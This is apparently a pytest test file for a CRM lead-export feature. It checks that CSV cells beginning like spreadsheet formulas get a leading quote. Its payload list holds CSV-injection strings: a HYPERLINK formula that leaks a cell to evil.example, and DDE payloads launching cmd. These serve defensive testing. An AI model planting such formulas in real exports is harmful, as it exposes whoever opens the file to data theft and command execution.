"""CSV exports that no spreadsheet runs: lead fields beginning like a formula are neutralised."""

import csv

import pytest

from reauto.export.runner import run_export
from reauto.export.targets.files import CsvTarget, neutralised
from reauto.store.engine import session_factory
from reauto.store.models import Lead

from .test_export import seed

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.unit
@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert neutralised(payload) == "'" + payload


@pytest.mark.unit
@pytest.mark.parametrize("value", ["+15125550123", "-42", "-0.5", "+1e-05", 42, -1.5, None, "Jane", "a=b", "'=x"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralised(value) == value


@pytest.mark.integration
async def test_an_exported_file_carries_no_live_formula(pg_engine, tmp_path):
    await seed(pg_engine)
    async with session_factory(pg_engine).begin() as s:
        lead = await s.get(Lead, 1)
        lead.first_name, lead.last_name, lead.email, lead.external_id = PAYLOADS[0], PAYLOADS[1], PAYLOADS[3], \
            PAYLOADS[2]
    await run_export(pg_engine, CsvTarget(tmp_path))
    [file] = list(tmp_path.iterdir())
    raw = file.read_text(encoding="utf-8")
    rows = list(csv.DictReader(raw.splitlines(keepends=True)))
    assert rows and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == row["phone"]
                        for row in rows for cell in row.values())
    assert rows[0]["first_name"] == "'" + PAYLOADS[0] and rows[0]["last_name"] == "'" + PAYLOADS[1]
    assert rows[0]["external_id"] == "'" + PAYLOADS[2] and rows[0]["email"] == "'" + PAYLOADS[3]
    assert rows[0]["phone"] == "+15125550123"  # a number stays a number
    assert all(line.startswith('"') for line in raw.splitlines() if line)  # every cell quoted
